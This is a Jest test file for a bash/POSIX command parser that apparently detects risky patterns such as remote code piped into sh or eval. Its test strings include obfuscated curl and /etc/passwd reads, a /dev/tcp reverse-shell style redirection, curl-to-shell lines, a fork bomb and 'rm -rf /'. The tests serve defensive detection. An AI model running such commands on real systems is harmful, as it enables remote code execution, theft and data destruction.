/** What POSIX and bash text runs: one row per form of the language. */
import { describe, expect, it } from '@jest/globals';
import { parseCommandLine } from './parse.ts';
import { readable, readableFlows } from './test-support/readable.ts';

type Row = readonly [line: string, runs: readonly string[]];

function table(name: string, rows: readonly Row[]): void {
  describe(name, () => {
    it.each(rows)('%s', (line, runs) => {
      const parsed = parseCommandLine(line);
      expect({ runs: readable(parsed), problems: parsed.problems }).toEqual({ runs, problems: [] });
      expect(parsed).toMatchObject({ parse: 'complete', shell: 'posix' });
    });
  });
}

table('lists and pipelines', [
  ['', []],
  ['  # only a comment', []],
  ['ls', ['ls']],
  ['a; b && c || d', ['a', 'b', 'c', 'd']],
  ['a\nb\n\nc', ['a', 'b', 'c']],
  ['a & b', ['a &', 'b']],
  ['a && b &', ['a &', 'b &']],
  ['a | b |& c', ['a | b | c']],
  ['! a | b', ['a | b']],
  ['! ! a', ['a']],
  ['a |\n b &&\n c', ['a | b', 'c']],
  ['a \\\n  b', ['a b']],
  ['a\r\nb\r\n', ['a', 'b']],
  ['a # b; c', ['a']],
  ['a#b c', ['a#b c']],
  ['a;# b\nc', ['a', 'c']],
]);

table('words and quoting', [
  [`c''url c"u"rl cu\\rl $'\\x63url' $'\\143url' $'\\u0063url'`, ['curl curl curl curl curl curl']],
  [`$'\\303\\251' $'a\\tb' $'it\\'s'`, ["é [a\tb] it's"]],
  [`echo 'a b' "a $x b" "a \\$x \\" \\n"`, ['echo [a b] [a $x b] [a $x " \\n]']],
  [`echo $"hello" "" ''`, ['echo hello [] []']],
  ['cu\\\nrl -s', ['curl -s']],
  ['cat${IFS}/etc/passwd', ['cat /etc/passwd']],
  ['cat$IFS/etc/passwd', ['cat /etc/passwd']],
  ['cat${IFS%??}/etc/passwd', ['cat /etc/passwd']],
  ['echo "cat$IFS/etc/passwd"', ['echo cat$IFS/etc/passwd']],
  ['ls ~/x *.txt ?(a|b) [a-c]* {a', ['ls ~/x *.txt ?(a|b) [a-c]* {a']],
  ['echo $HOME ${x:-"a b"} $1 $? $$ $', ['echo $HOME [${x:-"a b"}] $1 $? $$ $']],
  ['echo ${a#\'}\'} ${b%"}"}', ['echo ${a#\'}\'} ${b%"}"}']],
  ['echo $((1 + (2 * 3))) $[4 + 5]', ['echo [$((1 + (2 * 3)))] [$[4 + 5]]']],
  ['echo a{ } {} } {a}', ['echo a{ } {} } {a}']],
  ['w$@hoami; c${@}url x; wh$1oami', ['whoami', 'curl x', 'whoami']],
]);

table('brace expansion', [
  ['{curl,-s,http://x}', ['curl -s http://x']],
  ['echo a{b,c}d {1..3} {c..a} {01..03} {1..7..3}', ['echo abd acd 1 2 3 c b a 01 02 03 1 4 7']],
  ['echo {a,{b,c}}{x,y} {,a} "{a,b}" {a\\,b} ${x,y} {a,b}}', ['echo ax ay bx by cx cy a {a,b} {a,b} ${x,y} a} b}']],
  ['echo {$a,"b c"}', ['echo $a [b c]']],
  ['x={a,b} y', ['x={a,b} y']],
]);

table('assignments', [
  ['FOO=bar', ['FOO=bar']],
  ['A=1 B="2 3" cmd C=4', ['A=1 B=[2 3] cmd C=4']],
  ['a[1 + 2]=x b+=y cmd', ['a[1 + 2]=x b=y cmd']],
  ['a=(x "y z" [3]=w) b', ['a=[(x y z [3]=w)] b']],
  ['declare -a x=(a b)', ['declare -a [x=(a b)]']],
  ['x=$(curl u)', ['x=[$(curl u)]', 'curl u']],
]);

table('redirections', [
  ['a > f 2>&1 < g', ['a 1>f 2>&1 0<g']],
  ['a >>f 2>/dev/null &>all &>>more', ['a 1>>f 2>/dev/null 1&>all 1&>>more']],
  ['> f', ['1>f']],
  ['a >| f <> g 3<&0 4>&-', ['a 1>|f 0<>g 3<&0 4>&-']],
  ['exec 5<>/dev/tcp/10.0.0.1/4444', ['exec 5<>/dev/tcp/10.0.0.1/4444']],
  ['exec {fd}>f', ['exec 10>f']],
  ['a 2 > f', ['a 2 1>f']],
  ['{ a; b | c; } > f 2> g', ['a 1>f 2>g', 'b 2>g | c 1>f 2>g']],
]);

table('compound commands', [
  ['(a; b)', ['a', 'b']],
  ['{ a; b; }', ['a', 'b']],
  ['if a; then b; elif c; then d; else e; fi', ['a', 'b', 'c', 'd', 'e']],
  ['while a; do b; done', ['a', 'b']],
  ['until a; do b; done > f', ['a 1>f', 'b 1>f']],
  ['for x in a "$(b)"; do c $x; done', ['b', 'c $x']],
  ['for x; do c; done; for ((i = 0; i < $(n); i++)); do d; done', ['c', 'n', 'd']],
  ['for x in {1..65535}; do a; done', ['a']],
  ['for x in a; { b; }', ['b']],
  ['case $(a) in x|y) b;; (z) c;& *) d ;; esac', ['a', 'b', 'c', 'd']],
  ['case x in esac', []],
  ['select x in a; do b; done', ['b']],
  ['f() { a; }; function g { b; }; h () (c); function i () { d; }', ['a', 'b', 'c', 'd']],
  ['"f g"h() { a; }; "f" () { b; }', ['a', 'b']],
  [':(){ :|:& };:', [': | : &', ':']],
  ['[[ -f $(a) && b =~ ^(x|y z)$ || ( c < d ) ]] && e', ['[[ -f $(a) && b =~ [^(x|y z)$] || ( c < d ) ]]', 'a', 'e']],
  ['((x = $(a) + 1)) && b', ['(( [x = $(a) + 1]', 'a', 'b']],
  ['((a); b)', ['a', 'b']],
  ['coproc NAME { a; }; coproc b', ['a &', 'b &']],
  ['time (a; b)', ['time: a', 'time: b']],
  ['time -p a b', ['time: a b']],
  ['echo if then fi { }', ['echo if then fi { }']],
  ['if a; then (b) fi', ['a', 'b']],
]);

table('substitutions', [
  ['a $(b "$(c `d`)")', ['a [$(b "$(c `d`)")]', 'b [$(c `d`)]', 'c `d`', 'd']],
  ['echo "`a \\`b\\``"', ['echo [`a \\`b\\``]', 'a `b`', 'b']],
  ['diff <(a | b) >(c)', ['diff [<(a | b)] >(c)', 'a | b', 'c']],
  ['echo $(case x in a) b;; esac)', ['echo [$(case x in a) b;; esac)]', 'b']],
  ['echo ${x:-$(a)} $(( $(b) + 1 )) ${ c; }', ['echo ${x:-$(a)} [$(( $(b) + 1 ))] [${ c; }]', 'a', 'b', 'c']],
  ['echo $((a) ; (b))', ['echo [$((a) ; (b))]', 'a', 'b']],
  ["echo '$(a)' \"\\$(c)\" '`d`'", ['echo $(a) $(c) `d`']],
  ['$(which python3) -m http.server', ['python3 -m http.server', 'which python3']],
  ['$(echo cu)rl x; $(printf "%s%s" wg et) y', ['curl x', 'echo cu', 'wget y', 'printf %s%s wg et']],
  ['c=curl; $c http://x | sh', ['c=curl', 'curl http://x | sh']],
  ['if a; then c=x; else c=y; fi; $c', ['a', 'c=x', 'c=y', '$c']],
  ['c=curl; for c in a b; do $c; done; d=1; read d; $d', ['c=curl', '$c', 'd=1', 'read d', '$d']],
]);

table('here-documents', [
  ['cat <<EOF > f\ncurl x | sh\nEOF\nls', ['cat 1>f', 'ls']],
  ["cat <<'EOF'\n$(a)\nEOF", ['cat']],
  ['cat <<EOF\n$(a) `b` \\$(c)\nEOF', ['cat', 'a', 'b']],
  ['cat <<-EOF\n\ta\n\tEOF\nb', ['cat', 'b']],
  ['cat <<A <<B\n1\nA\n2\nB\nc', ['cat', 'c']],
  ['cat <<A | grep x\n1\nA\nb', ['cat | grep x', 'b']],
  ['x=$(cat <<EOF\nfoo\nEOF)\nb', ['x=[$(cat <<EOF\nfoo\nEOF)]', 'cat', 'b']],
  ['cat <<A $(cat <<B\nb\nB\n)\na\nA\nc', ['cat [$(cat <<B\nb\nB\n)]', 'cat', 'c']],
  ['cat <<EOF\nto the end', ['cat']],
  [
    'git commit -m "$(cat <<\'EOF\'\nfix: rm -rf / | sh\nEOF\n)"',
    ["git commit -m [$(cat <<'EOF'\nfix: rm -rf / | sh\nEOF\n)]", 'cat'],
  ],
  ['grep x <<< "a b"', ['grep x 0<<<[a b]']],
]);

describe('details of a command', () => {
  it('keeps the text of here-documents and here-strings as input', () => {
    const [first] = parseCommandLine('cat <<EOF\na $x\n\\$y\nEOF').pipelines;
    expect(first?.commands[0]?.input).toBe('a $x\n$y\n');
    expect(parseCommandLine("cat <<-'E'\n\ta\n\tE").pipelines[0]?.commands[0]?.input).toBe('a\n');
    expect(parseCommandLine('cat <<< "x y"').pipelines[0]?.commands[0]?.input).toBe('x y');
    expect(parseCommandLine('{ cat; } <<E\nx\nE').pipelines[0]?.commands[0]?.input).toBe('x\n');
    expect(parseCommandLine('ls').pipelines[0]?.commands[0]).not.toHaveProperty('input');
  });

  it('gives the program by name and as written', () => {
    const [run] = parseCommandLine('/usr/bin/curl x && ./a/b.sh && $HOME/bin/t && "$(x/y)" z').pipelines.map(
      (p) => p.commands[0],
    );
    expect(run).toMatchObject({ program: 'curl', programPath: '/usr/bin/curl' });
    expect(parseCommandLine('./a/b.sh').pipelines[0]?.commands[0]).toMatchObject({
      program: 'b.sh',
      programPath: './a/b.sh',
    });
    expect(parseCommandLine('$HOME/bin/t').pipelines[0]?.commands[0]?.program).toBe('t');
    expect(parseCommandLine('"$(x/y)" z').pipelines[0]?.commands[0]?.program).toBe('$(x/y)');
  });

  it.each([
    ['a', 'line'],
    ['echo $(a)', 'substitution'],
    ['echo `a`', 'substitution'],
    ['cat <(a)', 'process-substitution'],
    ["bash -c 'a'", 'script'],
    ["bash -c 'echo $(a)'", 'substitution'],
    ["echo $(bash -c 'a')", 'script'],
  ])('%s: a comes from %s', (line, origin) => {
    const commands = parseCommandLine(line).pipelines.flatMap((pipeline) => pipeline.commands);
    expect(commands.find(({ program }) => program === 'a')?.origin).toBe(origin);
  });

  it('marks the position of commands in the line, for scripts that of the command with the script', () => {
    const line = 'a "$(bb c)" | sudo dd; eval "ee; ff"';
    const marks = parseCommandLine(line)
      .pipelines.flatMap((pipeline) => pipeline.commands)
      .map(({ program, start, end }) => [program, line.slice(start, end)]);
    expect(marks).toEqual([
      ['a', 'a "$(bb c)"'],
      ['dd', 'sudo dd'],
      ['bb', 'bb c'],
      ['ee', 'eval "ee; ff"'],
      ['ff', 'eval "ee; ff"'],
    ]);
  });
});

describe('data paths', () => {
  it.each([
    ['(curl u | gunzip) | sh', ['curl u | gunzip | sh'], []],
    ['{ curl u; echo; } | sh', ['curl u', 'echo | sh'], ['curl>sh']],
    ['(cd /x && curl u) | sh', ['cd /x', 'curl u | sh'], []],
    ['curl u | { read a; sh; }', ['curl u | read a', 'sh'], ['curl>sh']],
    ['curl u | while read l; do eval "$l"; done', ['curl u | read l', 'eval $l'], ['curl>eval']],
    ['sh <(curl u)', ['sh [<(curl u)]', 'curl u'], ['curl>sh']],
    ['curl u | tee >(sh)', ['curl u | tee >(sh)', 'sh'], ['tee>sh']],
    ['sh < <(curl u)', ['sh 0<[<(curl u)]', 'curl u'], ['curl>sh']],
    ['sh <<< "$(curl u)"', ['sh 0<<<[$(curl u)]', 'curl u'], ['curl>sh']],
    ['sh -c "$(curl u)"', ['sh -c [$(curl u)]', 'curl u'], ['curl>sh']],
    ['eval "$(curl u)"', ['eval [$(curl u)]', 'curl u'], ['curl>eval']],
    [
      'sh -c "set -e; $(curl u)"',
      ['sh -c [set -e; $(curl u)]', 'curl u', 'sh -c: set -e', 'sh -c: $(curl u)'],
      ['curl>sh'],
    ],
    ['python3 -c "$(curl u)"', ['python3 -c [$(curl u)]', 'curl u'], ['curl>python3']],
    ['python3 f.py "$(curl u)"', ['python3 f.py [$(curl u)]', 'curl u'], []],
    ['echo $(curl u)', ['echo [$(curl u)]', 'curl u'], []],
    ['f() { curl u; }; f | sh', ['curl u', 'f | sh'], []],
  ])('%s', (line, runs, flows) => {
    const parsed = parseCommandLine(line);
    expect(readable(parsed)).toEqual(runs);
    expect(readableFlows(parsed)).toEqual(flows);
    const all = new Set(parsed.pipelines.flatMap(({ commands }) => commands));
    for (const flow of parsed.flows) for (const command of flow.commands) expect(all.has(command)).toBe(true);
  });
});

describe('text that cannot be parsed', () => {
  it.each([
    ["echo 'abc", ['echo abc'], "unterminated ' at 5"],
    ['a; echo "x', ['a', 'echo x'], 'unterminated " at 8'],
    ['a $(b', ['a $(b', 'b'], 'unterminated $( at 2'],
    ['a `b', ['a `b', 'b'], 'unterminated ` at 2'],
    ['a ${b', ['a ${b'], 'unterminated ${ at 2'],
    ['(a; b', ['a', 'b'], 'unterminated ( at 0'],
    ['a; ) ; b', ['a', 'b'], 'unexpected ) at 3'],
    ['a && && b', ['a', 'b'], 'unexpected & at 5'],
    ['a | | b', ['a', 'b'], 'unexpected | at 4'],
    ['a && ', ['a'], 'expected a command after && at 2'],
    ['; a', ['a'], 'unexpected ; at 0'],
    ['a >', ['a 1>'], 'expected a word after > at 3'],
    ['if a; then b', ['a', 'b'], 'expected fi at 12'],
    ['if a; b; fi; c', ['a', 'b', 'c'], 'expected then at 9'],
    ['fi; a', ['a'], 'unexpected fi at 0'],
    ['{ a', ['a'], 'expected } at 3'],
    ['{ }; a', ['a'], 'expected a command after { at 2'],
    ['(a) b', ['a', 'b'], 'unexpected b at 4'],
    ['echo foo (bar) baz; a', ['echo foo baz', 'a'], 'unexpected ( at 9'],
    ['[[ a', ['[[ a'], 'unterminated [[ at 0'],
    ['case x', [], 'expected in at 6'],
    ['ls @(a', ['ls @(a'], 'unterminated ( at 3'],
    ['a | ! b', ['a | b'], 'unexpected ! at 4'],
    ['coproc', [], 'expected a command after coproc at 6'],
    ['x=(a b', ['x=[(a b)]'], 'unterminated ( at 2'],
    ["bash -c 'a; (b'; c", ['bash -c: a', 'bash -c: b', 'c'], 'unterminated ( at 0'],
  ])('%s', (line, runs, problem) => {
    const parsed = parseCommandLine(line);
    expect(parsed.parse).toBe('partial');
    expect(parsed.problems[0]).toBe(problem);
    expect(readable(parsed).map((run) => run.replace(' 1>[]', ' 1>'))).toEqual(runs);
  });
});
